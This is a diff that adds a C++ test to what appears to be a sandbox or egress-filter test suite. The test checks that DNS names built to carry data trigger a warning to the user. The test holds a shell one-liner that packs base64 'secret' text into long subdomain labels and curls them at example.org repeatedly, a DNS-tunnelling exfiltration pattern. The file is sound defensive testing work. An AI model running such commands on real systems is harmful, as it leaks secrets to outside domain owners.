@@ -101,5 +101,22 @@ TEST_P(DnsAttack,
   EXPECT_THAT(world.dns_queries(), IsEmpty());
 }
 
+// Each connection tells the domain's owner a name. That is what the entry allows, but it is said.
+TEST_P(DnsAttack, DNS_09_names_made_to_carry_data_are_told_to_the_user) {
+  const auto fetch = [this](const std::string& names) {
+    return run_shell(
+        "x=$(printf 'c2VjcmV0%.0s' 1 2 3 4 5 6 7); for i in $(seq 30); do curl -s -m 5 "
+        "http://" +
+            names + ".example.org/ >/dev/null; done; echo done",
+        "*.example.org");
+  };
+  const auto carrying = fetch("$i.$x.$x.$x");
+  EXPECT_EQ(carrying.output, "done\n") << carrying;
+  EXPECT_THAT(carrying.errors, HasSubstr("carry data to the domain's owner"));
+  const auto usual = fetch("shard$i");
+  EXPECT_EQ(usual.output, "done\n") << usual;
+  EXPECT_THAT(usual.errors, Not(HasSubstr("carry data")));
+}
+
 }  // namespace
 }  // namespace awf::attack
